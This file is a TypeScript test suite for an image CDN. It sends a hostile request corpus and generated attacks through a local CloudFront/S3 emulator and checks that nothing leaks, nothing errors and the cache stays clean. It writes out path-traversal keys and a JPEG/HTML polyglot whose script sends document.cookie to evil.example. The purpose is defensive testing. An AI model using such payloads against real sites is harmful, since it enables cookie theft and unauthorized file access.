/**
 * Bad input at the edge, over real HTTP: the local stack's parts in-process
 * (dynalite, s3rver, one CloudFront emulator per guarded variant running the
 * deployed edge code), every DynamoDB call counted by a proxy. For each of
 * required+origin, required+redirect, secured+origin and secured+redirect:
 *
 * - the hostile corpus (corpus.ts, fixtures/hostile/paths.txt): no 5xx, no
 *   read for a malformed path, the image only for its hash URL, nothing
 *   given away (bucket, key, table, S3 endpoint or headers, a Location);
 * - every name trick answers byte for byte alike whether or not something
 *   exists behind the name, and a revoked hash like one never issued;
 * - generated hostile requests (fast-check), under the same rules;
 * - the cache is never poisoned: afterwards the hash URL still gets exactly
 *   its image, and no other cache key holds it.
 *
 * Threats: SECURITY.md, "Anyone with the CDN's address".
 */
import { expect } from "chai";
import { DeleteObjectCommand, PutObjectCommand } from "@aws-sdk/client-s3";
import * as fc from "fast-check";
import { checkerPng } from "../../local/png";
import { encodeObjectKey } from "../../edge/endpoints";
import { CdnWorld, guardedPlans, startCdnWorld } from "../reliability/support/cdn-world";
import { captureEdgeLogs, EdgeLogCapture } from "../support/edge-logs";
import { headerOf, RawRequest, sendRaw } from "../reliability/support/raw-http";
import { Expectation, hostileCorpus } from "./edge/corpus";
import { generatedRequests } from "./edge/generated";
import { ImageIssuer } from "../../issuer/issuer";
import { answerProblem, effectivePath, judge, leaks, mayRead, normalized } from "./edge/oracle";
import { prepareService, randomHex32, ServiceUnderAttack, testImage } from "./edge/service-under-attack";

const SERVICES = guardedPlans().map((plan) => plan.name);

describe("edge over HTTP: hostile requests through the CloudFront emulator", function () {
    this.timeout(240_000);
    let world: CdnWorld;
    let logs: EdgeLogCapture;
    const image = testImage();
    const targets = new Map<string, ServiceUnderAttack>();

    before(async () => {
        logs = captureEdgeLogs({ keep: false });
        world = await startCdnWorld(guardedPlans());
        for (const service of world.services) targets.set(service.name, await prepareService(world, service, image));
    });
    after(async () => {
        await world?.close();
        logs?.restore();
    });

    function target(name: string): ServiceUnderAttack {
        const found = targets.get(name);
        if (!found) throw new Error(`${name} was not prepared`);
        return found;
    }

    /** Sends each request and collects every rule it breaks. */
    async function attack(under: ServiceUnderAttack, cases: { name: string; request: RawRequest; expect: Expectation }[]): Promise<string[]> {
        const problems: string[] = [];
        for (const hostile of cases) {
            const { response, reads } = await under.send(hostile.request);
            const found = judge(hostile.request, hostile.expect, response, under.facts);
            if (reads > 0 && !mayRead(hostile.request)) found.push(`cost ${reads} DynamoDB read(s) for a malformed request`);
            for (const problem of found) problems.push(`${hostile.name} [${hostile.request.method} ${String(hostile.request.target).slice(0, 90)}]: ${problem}`);
        }
        return problems;
    }

    for (const name of SERVICES) {
        describe(name, () => {
            it("every name trick answers byte for byte alike whether or not an object exists behind the name", async () => {
                const under = target(name);
                const real = hostileCorpus(under.real);
                const shadow = hostileCorpus(under.shadow);
                expect(shadow.map((c) => c.category)).to.deep.equal(real.map((c) => c.category));
                const differences: string[] = [];
                const sent = new Set<string>();
                let compared = 0;
                for (let i = 0; i < real.length; i++) {
                    const [a, b] = [real[i], shadow[i]];
                    const [ta, tb] = [Buffer.from(a.request.target).toString("latin1"), Buffer.from(b.request.target).toString("latin1")];
                    // Only refusals whose target carries the name differ between the two; a target
                    // sent before (a duplicate for this hash) would meet a cached answer on one side only.
                    if (a.expect !== "refuse" || ta === tb || sent.has(ta) || sent.has(tb)) continue;
                    sent.add(ta).add(tb);
                    const [ra, rb] = [await under.send(a.request), await under.send(b.request)];
                    compared += 1;
                    if (normalized(ra.response) !== normalized(rb.response)) differences.push(`${a.name}:\n${normalized(ra.response)}\n---\n${normalized(rb.response)}`);
                }
                expect(compared).to.be.at.least(100);
                expect(differences.slice(0, 3).join("\n\n")).to.equal("");
            });

            it("the hostile corpus (≥ 200 requests): no 5xx, no read for a malformed path, the image only for its hash URL, nothing given away", async () => {
                const under = target(name);
                const corpus = hostileCorpus(under.real);
                expect(corpus.length).to.be.at.least(200);
                const readsBefore = world.edgeReads();
                expect(await attack(under, corpus)).to.deep.equal([]);
                // The corpus did reach the edge: the hash URL and the missing hash were looked up.
                expect(world.edgeReads() - readsBefore).to.be.greaterThan(0);
                expect(world.faults).to.deep.equal([]);
            });

            it("a revoked hash answers exactly like a hash never issued", async () => {
                const under = target(name);
                const revoked = await under.service.local.issuer.upload(image);
                await under.service.local.issuer.revoke(revoked.hash ?? "");
                const [a, b] = [await under.send({ method: "GET", target: `/images/${revoked.hash}` }), await under.send({ method: "GET", target: `/images/${randomHex32()}` })];
                expect(a.response.status).to.equal(404);
                expect(normalized(a.response)).to.equal(normalized(b.response));
            });

            it("an unknown hash (GET or HEAD, with or without a query) gets a bare 404: no Location, nothing about the bucket, key or table", async () => {
                const under = target(name);
                for (const request of [
                    { method: "GET", target: `/images/${randomHex32()}` },
                    { method: "HEAD", target: `/images/${randomHex32()}` },
                    { method: "GET", target: `/images/${randomHex32()}?X-Amz-Expires=604800&response-content-type=text%2Fhtml` },
                ]) {
                    const { response } = await under.send(request);
                    expect(response.status, request.target).to.equal(404);
                    expect(headerOf(response, "location"), request.target).to.equal(undefined);
                    expect(leaks(response, under.facts), request.target).to.deep.equal([]);
                }
            });

            it("an expired hash gets a bare 403: no Location, no bucket, key or table, no S3 headers", async () => {
                const under = target(name);
                const { config, clients } = under.service.local;
                const monthAgo = Date.now() - (config.hashTtlSeconds + 3600) * 1000;
                const expired = await new ImageIssuer(config, clients, { now: () => monthAgo }).upload(image);
                const { response } = await under.send({ method: "GET", target: `/images/${expired.hash}` });
                expect(response.status).to.equal(403);
                expect(leaks(response, { ...under.facts, key: expired.s3Url.slice(`s3://${under.facts.bucket}/`.length) })).to.deep.equal([]);
            });

            it("generated hostile requests follow the same rules", async () => {
                const under = target(name);
                let served = 0;
                await fc.assert(
                    fc.asyncProperty(generatedRequests(under.real.hash), async (generated) => {
                        const problems = await attack(under, [{ name: "generated", ...generated }]);
                        expect(problems).to.deep.equal([]);
                        if (generated.expect === "serve") served += 1;
                    }),
                    { numRuns: 120 },
                );
                // Both sides of the rule were exercised.
                expect(served).to.be.greaterThan(0);
            });

            it("the cache is not poisoned: the hash URL still gets exactly its image, and no other requested path holds it", async () => {
                const under = target(name);
                const plain = await under.send({ method: "GET", target: `/images/${under.real.hash}` });
                expect(answerProblem(plain.response, "GET", under.facts)).to.equal(undefined);
                if (under.facts.mode === "origin") expect(plain.response.body).to.deep.equal(image);

                const cache = under.service.cdn.distribution.cache;
                const now = Date.now();
                // Where the image may legitimately be cached: its hash URL (required) or its rewritten key (secured + origin).
                const allowed = new Set([`/images/${under.real.hash}`, `/${encodeObjectKey(under.facts.key)}`]);
                const cached = cache.lookup(`/images/${under.real.hash}`, now);
                if (cached.state !== "absent") expect(cached.entry.response.status, "the hash URL's cached answer").to.be.oneOf([200, 302]);
                const poisoned: string[] = [];
                for (const hostile of hostileCorpus(under.real)) {
                    const key = effectivePath(hostile.request.target);
                    if (allowed.has(key)) continue;
                    const found = cache.lookup(key, now);
                    if (found.state !== "absent" && found.entry.response.status < 400) poisoned.push(`${key}: ${found.entry.response.status}`);
                }
                expect(poisoned).to.deep.equal([]);
            });
        });
    }
    describe("object keys and content, end to end", () => {
        /** Keys that some layer could decode or normalise into `secret.png`; S3 keys are literal, so each must stay its own object. */
        const TRICKY_KEYS = [
            "uploads/%2e%2e/secret.png",
            "uploads/%2E%2E%2Fsecret.png",
            "uploads/..%2fsecret.png",
            "uploads/%252e%252e%252fsecret.png",
            "uploads/\\..\\secret.png",
            "uploads/..;/secret.png",
            "uploads/x/..%5csecret.png",
            "uploads/%c0%ae%c0%ae/secret.png",
        ];

        for (const name of ["discussion", "chat", "regulatory"]) {
            it(`${name}: keys that look like traversal stay literal from the issuer to S3; a browser following the answer gets that object, never secret.png`, async () => {
                const under = target(name);
                const { issuer, clients } = under.service.local;
                const secret = checkerPng({ width: 4, height: 4, square: 1, colors: [[0, 0, 0], [0, 0, 0]] });
                await clients.s3.send(new PutObjectCommand({ Bucket: under.facts.bucket, Key: "secret.png", Body: secret, ContentType: "image/png" }));
                await clients.s3.send(new PutObjectCommand({ Bucket: under.facts.bucket, Key: "uploads/secret.png", Body: secret, ContentType: "image/png" }));
                const wrong: string[] = [];
                for (const [i, key] of TRICKY_KEYS.entries()) {
                    const own = checkerPng({ width: 4, height: 4, square: 1, colors: [[i * 20, 100, 200], [255, 255, 255]] });
                    const uploaded = await issuer.upload(own, { s3Key: key });
                    expect(uploaded.s3Url).to.equal(`s3://${under.facts.bucket}/${key}`);
                    // What a browser does: fetch (WHATWG URL rules) and follow redirects.
                    const response = await fetch(`http://127.0.0.1:${under.service.port}/images/${uploaded.hash}`);
                    const body = Buffer.from(await response.arrayBuffer());
                    if (response.status !== 200 || !body.equals(own)) wrong.push(`${key}: ${response.status}${body.equals(secret) ? " (secret.png!)" : ""}`);
                }
                expect(wrong).to.deep.equal([]);
            });
        }

        // secured + origin has no origin-response step, so S3's own error passes through there (SECURITY.md, known limits).
        it("discussion: an object deleted behind a live hash gets the generic 404, never S3's error naming the key", async () => {
            const under = target("discussion");
            const uploaded = await under.service.local.issuer.upload(checkerPng({ width: 4, height: 4, square: 2, colors: [[9, 9, 9], [99, 99, 99]] }));
            const key = uploaded.s3Url.slice(`s3://${under.facts.bucket}/`.length);
            await under.service.local.clients.s3.send(new DeleteObjectCommand({ Bucket: under.facts.bucket, Key: key }));
            const { response } = await under.send({ method: "GET", target: `/images/${uploaded.hash}` });
            expect(response.status).to.equal(404);
            expect(response.body.toString()).to.equal("Not Found\n");
            expect(leaks(response, { ...under.facts, key })).to.deep.equal([]);
        });

        for (const name of ["discussion", "regulatory"]) {
            it(`${name}: a JPEG/HTML polyglot is accepted as a JPEG by its bytes, and served only as image/jpeg with nosniff and a sandboxing CSP`, async () => {
                const under = target(name);
                const polyglot = Buffer.concat([
                    Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
                    Buffer.from("<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"),
                ]);
                const uploaded = await under.service.local.issuer.upload(polyglot);
                expect(uploaded.contentType).to.equal("image/jpeg");
                const response = await sendRaw(under.service.port, { method: "GET", target: `/images/${uploaded.hash}` });
                expect(response.status).to.equal(200);
                expect(headerOf(response, "content-type")).to.equal("image/jpeg");
                expect(headerOf(response, "x-content-type-options")).to.equal("nosniff");
                const csp = headerOf(response, "content-security-policy") ?? "";
                expect(csp).to.include("sandbox").and.include("default-src 'none'");
                expect(csp).to.not.include("script-src");
            });
        }
    });
});
